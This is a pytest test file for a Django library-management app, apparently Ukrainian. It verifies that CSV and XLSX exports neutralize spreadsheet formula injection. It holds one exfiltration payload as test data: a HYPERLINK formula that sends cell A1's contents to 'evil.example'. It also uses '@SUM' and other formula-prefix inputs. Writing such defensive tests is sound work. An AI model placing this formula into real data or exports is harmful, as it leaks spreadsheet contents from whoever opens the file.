import csv
import io

import pytest
from openpyxl import load_workbook

from branches.models import Branch
from catalog.marc.importer import ImportReport, Position
from core.exports import csv_response
from events.services import registration_create
from tests.events.factories import EventFactory

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Натисніть")'


def read_csv(content: bytes):
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def export_registrants(client, event, action):
    return client.post(
        "/admin/events/event/",
        {"action": action, "_selected_action": [event.pk]},
    )


@pytest.fixture
def event_with_a_formula_name(branch_a):
    event = EventFactory(branch=branch_a, title="@SUM(1+1)")
    registration_create(event=event, name=LINK, email="hacker@example.org")
    registration_create(event=event, name="Оксана", phone="050 111 22 33", seats=2)
    return event


def test_a_formula_typed_as_a_name_arrives_as_text_in_the_registrants_csv(
    client, branch_head_a, event_with_a_formula_name
):
    client.force_login(branch_head_a)

    response = export_registrants(client, event_with_a_formula_name, "export_registrants_csv")

    rows = read_csv(response.content)
    names = {row[2] for row in rows[1:]}
    assert "'" + LINK in names and LINK not in names
    assert {row[0] for row in rows[1:]} == {"'@SUM(1+1)"}
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_a_formula_typed_as_a_name_arrives_as_text_in_the_registrants_xlsx(
    client, branch_head_a, event_with_a_formula_name
):
    client.force_login(branch_head_a)

    response = export_registrants(client, event_with_a_formula_name, "export_registrants_xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
    link = cells[LINK]
    assert link[2].data_type == "s" and link[2].quotePrefix
    # Numbers stay numbers.
    assert cells["Оксана"][6].value == 2 and cells["Оксана"][6].data_type == "n"


def test_a_library_named_like_a_formula_arrives_as_text_in_the_yearly_report_xlsx(
    client, methodologist
):
    Branch.objects.filter(slug="branch-5").update(name=LINK)
    client.force_login(methodologist)

    response = client.get("/strategy/reports/6-nk.xlsx", {"year": 2020, "library": "branch-5"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    # The respondent block of form 6-НК: «Найменування: <name>», stored as text.
    cell = next(cell for cell in sheet["A"] if LINK in str(cell.value))
    assert cell.value == f"Найменування: {LINK}" and cell.data_type == "s"


def test_a_record_titled_like_a_formula_arrives_as_text_in_the_marc_import_report():
    stream = io.StringIO()
    report = ImportReport(stream)

    report.reject(Position(number=3, offset=120), "Немає назви", title=LINK)

    rows = list(csv.DictReader(io.StringIO(stream.getvalue()), delimiter=";"))
    assert rows[0]["title"] == "'" + LINK
    assert rows[0]["record"] == "3"


def test_a_csv_cell_beginning_with_any_formula_sign_is_made_text_and_numbers_are_kept():
    cells = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "звичайний", 5]

    response = csv_response(filename="x.csv", header=["h"] * len(cells), rows=[cells])

    row = read_csv(response.content)[1]
    assert row == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "звичайний", "5"]
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
